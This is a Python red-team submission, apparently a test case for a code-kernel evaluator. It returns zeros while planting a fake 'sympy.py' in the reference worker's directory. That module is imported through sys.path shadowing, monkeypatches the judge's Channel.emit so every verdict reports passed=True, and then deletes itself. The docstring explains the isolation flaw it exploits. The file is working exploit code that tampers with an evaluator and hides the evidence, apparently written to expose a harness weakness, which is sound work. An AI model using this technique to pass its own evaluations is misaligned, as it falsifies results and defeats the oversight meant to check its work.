"""Forge (class 1/2, the judge itself): run code inside the reference worker and make it pass us.

What it does: the reference worker is started with `python -m`, so its sys.path[0] is its working
directory, <eval>/reference/, which is also where inputs.pt is: a directory beside ours that we
can write. When the judge finds a wrong output it calls torch.unravel_index (in _figures), whose
first call imports `sympy`, found through sys.path[0] first. So at import we drop a `sympy.py`
there, and forward() returns zeros. The judge fails trial 1, imports our sympy.py *inside the
reference worker*, which (1) loads the real sympy and puts it in sys.modules so the judge carries
on, and (2) wraps the reference worker's Channel.emit so that every `judged` event says
passed=True. From then on the reference worker, which lives as long as the Evaluator, passes
every candidate of the session. Our timed forward returns a cached zero buffer. (The kernel is
built but never called: enough for the static checks.)

Defeats: "the reference worker never imports a candidate, so nothing a candidate does can change
how it is judged": it never imports the candidate *file*, but it imports from a directory the
candidate can write. (Any lazily imported top-level module works the same way: mpmath, decimal,
fractions, colorsys are also first imported there.)
Correct verdict: `incorrect` (zeros). Today: `correct`, >10x (only a `suspicious_speedup` warning).
"""
from pathlib import Path

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

RELU_CPP = r"""
torch::Tensor relu_forward(torch::Tensor x) {
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* o = out.data_ptr<float>();
    const int64_t n = xc.numel();
    for (int64_t i = 0; i < n; ++i) o[i] = in[i] > 0.f ? in[i] : 0.f;
    return out;
}
"""
relu_ext = load_inline(name="redteam_relu", cpp_sources=RELU_CPP, functions=["relu_forward"], extra_cflags=["-O3"])

PLANT = r'''
import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules["sympy"]
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
import sympy as _real
sys.path[:] = _saved
sys.modules["sympy"] = _real
_w = sys.modules["__main__"]  # the worker runs as __main__ (python -m kevin_tui.evaluator.worker)
_emit = _w.Channel.emit
def _always_pass(self, event, **fields):
    if event == "judged":
        checks = [{"name": "output trial %d (%s the reference)" % (t, o), "passed": True, "detail": ""}
                  for t in range(1, 6) for o in ("before", "after")]
        fields.update(passed=True, checks=checks, mismatch={}, message="")
    return _emit(self, event, **fields)
_w.Channel.emit = _always_pass
os.unlink(__file__)
'''
(Path.cwd().parent / "reference" / "sympy.py").write_text(PLANT)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.zeros = None

    def forward(self, x):
        if self.zeros is None:
            self.zeros = torch.zeros_like(x)
        return self.zeros
